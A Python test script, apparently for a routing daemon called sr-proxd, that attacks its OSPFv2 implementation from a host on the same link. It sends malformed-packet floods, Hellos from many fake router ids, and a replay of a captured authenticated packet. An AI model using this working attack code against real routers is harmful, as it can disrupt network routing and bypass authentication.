#!/usr/bin/python3
"""Attacks on sr-proxd's OSPF from a host on its link (run inside a network
namespace that has an interface on that link). Raw IP sockets, protocol 89.

  ospf_attack.py garbage IFACE COUNT        malformed packets of every kind
  ospf_attack.py hellos IFACE MASK COUNT    Hellos from COUNT made-up router ids
  ospf_attack.py replay IFACE               captures a cryptographically
        authenticated packet on IFACE, waits until its sender has sent a
        newer one, and sends the old one again

Prints what it sent; exits 0 unless the attack could not be carried out.
"""
import os
import random
import socket
import struct
import sys
import time

PROTO = 89
ALL_SPF = "224.0.0.5"


def raw(iface):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, PROTO)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, iface.encode())
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    return s


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(kind, router_id, body, area=0):
    """An OSPFv2 packet with null authentication and a good checksum."""
    length = 24 + len(body)
    head = struct.pack("!BBHIIHHQ", 2, kind, length, router_id, area, 0, 0, 0)
    data = head + body
    c = checksum(data[:16] + data[24:])
    return data[:12] + struct.pack("!H", c) + data[14:]


def hello(router_id, mask, neighbors=()):
    body = struct.pack("!IHBBIII", mask, 1, 0x02, 1, 4, 0, 0)
    body += b"".join(struct.pack("!I", n) for n in neighbors)
    return packet(1, router_id, body)


def garbage(iface, count):
    s = raw(iface)
    rng = random.Random(7)
    good = hello(0x0A424201, 0xFFFFFF00)
    kinds = [
        lambda: b"",
        lambda: b"\x02",
        lambda: good[:23],                                     # truncated header
        lambda: bytes([3]) + good[1:],                         # version 3
        lambda: good[:1] + bytes([9]) + good[2:],              # packet type 9
        lambda: good[:2] + struct.pack("!H", 65535) + good[4:],  # length past the end
        lambda: good[:2] + struct.pack("!H", 8) + good[4:],     # length inside the header
        lambda: good[:12] + b"\xde\xad" + good[14:],           # bad checksum
        lambda: good[:14] + struct.pack("!H", 7) + good[16:],   # unknown authentication type
        lambda: packet(2, 0x0A424201, b"\x05"),                 # truncated Database Description
        lambda: packet(4, 0x0A424201, struct.pack("!I", 1000000)),  # LS Update promising 1M LSAs
        lambda: packet(4, 0x0A424201, struct.pack("!I", 1) + b"\x00" * 19),  # a truncated LSA
        lambda: packet(3, 0x0A424201, b"\x00" * 11),            # LS Request not a multiple of 12
        lambda: bytes(rng.getrandbits(8) for _ in range(rng.randint(1, 1400))),
    ]
    for i in range(count):
        s.sendto(kinds[i % len(kinds)](), (ALL_SPF, 0))
    print("sent %d malformed packets" % count)


def hellos(iface, mask, count):
    s = raw(iface)
    for i in range(count):
        s.sendto(hello(0x0A420000 + i + 1, mask), (ALL_SPF, 0))
    print("sent Hellos from %d router ids" % count)


def replay(iface):
    s = raw(iface)
    # Multicast reaches a socket only on an interface that joined the group.
    index = socket.if_nametoindex(iface)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                 socket.inet_aton(ALL_SPF) + struct.pack("=Ii", 0, index))
    s.settimeout(10)
    deadline = time.time() + 20
    first = None
    while time.time() < deadline:
        data, (src, _) = s.recvfrom(65535)
        ihl = (data[0] & 0x0F) * 4
        ospf = data[ihl:]
        if len(ospf) < 24 or struct.unpack("!H", ospf[14:16])[0] != 2:
            continue
        seq = struct.unpack("!I", ospf[20:24])[0]
        if first is None:
            first = (src, seq, ospf)
            continue
        if src == first[0] and seq > first[1]:
            s.sendto(first[2], (ALL_SPF, 0))
            print("replayed a packet of %s with sequence %d after %d" % (src, first[1], seq))
            return
    sys.exit("no two authenticated packets of one sender seen on %s" % iface)


def main():
    mode = sys.argv[1]
    if mode == "garbage":
        garbage(sys.argv[2], int(sys.argv[3]))
    elif mode == "hellos":
        hellos(sys.argv[2], struct.unpack("!I", socket.inet_aton(sys.argv[3]))[0], int(sys.argv[4]))
    elif mode == "replay":
        replay(sys.argv[2])
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
